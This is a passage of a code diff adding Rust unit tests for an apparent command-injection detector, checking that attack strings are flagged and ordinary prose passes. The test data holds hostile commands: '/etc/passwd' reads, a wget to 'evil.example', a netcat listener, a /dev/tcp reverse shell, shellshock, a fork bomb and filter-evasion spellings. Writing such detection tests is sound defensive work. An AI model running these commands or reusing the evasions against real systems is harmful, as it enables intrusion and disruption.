+            "{,ifconfig,eth0}",
+        ] {
+            assert!(hits(attack).contains(&"command.substitution"), "{attack}");
+        }
+        assert_eq!(hits("$(document)"), ["command.substitution-weak"]);
+    }
+
+    #[test]
+    fn starts() {
+        for attack in [
+            "cat /etc/passwd",
+            "whoami;",
+            "wget http://evil.example/x",
+            "/usr/bin/perl -e 'print 1'",
+            "bash -c 'id'",
+            "nc -lvp 4444",
+            "ls -la /var/www/",
+        ] {
+            assert!(hits(attack).contains(&"command.start"), "{attack}");
+        }
+    }
+
+    #[test]
+    fn evasions() {
+        for attack in [
+            "w'h'o'am'i",
+            "wh\\oami",
+            "c$@at /etc/passwd",
+            "/???/c?t /???/p??s??",
+            "'i'fconfig",
+            "cu$u\\rl example.com",
+            "c^m^d /c dir",
+            "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\".\"\"1\"\"0\"\"",
+            "$SHELL -c \"echo hi\"",
+        ] {
+            assert!(hits(attack).contains(&"command.evasion"), "{attack}");
+        }
+    }
+
+    #[test]
+    fn shapes_and_windows() {
+        assert!(hits("() { :; }; /bin/bash -c id").contains(&"command.shellshock"));
+        assert!(hits("cat${IFS}/etc/passwd").contains(&"command.shell-syntax"));
+        assert!(hits("sh -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"command.shell-syntax"));
+        assert!(hits(":(){ :|:& };:").contains(&"command.shell-syntax"));
+        assert!(hits("alias a=curl&a example.com").contains(&"command.shell-syntax"));
+        assert!(hits("for /f %i in ('whoami') do echo %i").contains(&"command.windows"));
+        assert!(hits("IF EXIST C:\\pagefile.sys CMD").contains(&"command.windows"));
+        assert!(hits("if \"%VAR%\" == \"x\" echo ok").contains(&"command.windows"));
+        assert!(hits("%COMSPEC% /c dir").contains(&"command.windows"));
+        assert!(hits("cmd /c dir").contains(&"command.start"));
+        assert!(hits("time ifconfig").contains(&"command.separator"));
+    }
+
+    #[test]
+    fn prose_passes() {
+        for benign in [
+            "cat tree for large cats",
+            "tail -f log file",
+            "du -sh sort by size",
+            "alias ll ls -l",
+            "whoami - icebreaker game",
+            "curl up with a good book weekend",
+            "ping me when the build is ready",
+            "Tom & Jerry",
+            "I'd like the top floor",
+            "Super-mkdir; create a leaf directory",
+            "| id | name |\n|----|------|",
+            "kill time at the airport",
+            "time to say goodbye to the old office",
+            "Use whoami to check it first, then copy the folder.",
+            "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit",
+            "curl/7.81.0",
+            "wget",
+            "Dd/mm/yyyy format",
+            "text/html;q=0.9,*/*;q=0.8",
+            "If the HAVING clause is present, it eliminates groups",
+            "for 50% in (Q3) we grew",
+            "O'Keefe's",
+            "rock 'n' roll",
+            "Expand shell variables of form $var and ${var}.",
+            "see clone(2) and setns(2)",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+        assert_eq!(hits2("tail -f log file"), ["command.start-weak"]);
+    }
+}
